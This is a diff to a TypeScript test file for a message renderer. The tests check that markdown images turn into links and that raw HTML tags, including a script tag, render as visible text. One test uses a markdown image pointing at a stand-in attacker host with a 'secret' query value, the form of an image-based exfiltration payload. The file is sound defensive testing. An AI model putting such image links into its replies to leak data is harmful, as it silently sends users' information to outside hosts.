@@ -1,5 +1,6 @@
 import fc from "fast-check";
 import { fromHtml } from "hast-util-from-html";
+import { toString } from "hast-util-to-string";
 import { visit } from "unist-util-visit";
 import { expect, test } from "vitest";
 import { renderMessage } from "./message.ts";
@@ -15,6 +16,12 @@ test("a picture becomes a link, so that nothing is fetched unasked", () => {
   const html = renderMessage("![chart](https://evil.example/?q=secret)");
   expect(html).not.toContain("<img");
   expect(html).toContain('href="https://evil.example/?q=secret"');
+});
+
+test("tags are shown as text and no word is lost", () => {
+  const said = "Use <b>bold</b> here.\n\n<div>\nIn a block\n</div>\n\n- <script>x</script> item";
+  const text = toString(fromHtml(renderMessage(said), { fragment: true }));
+  for (const piece of ["<b>bold</b>", "<div>", "In a block", "<script>x</script> item"]) expect(text).toContain(piece);
 });
 
 test.each([
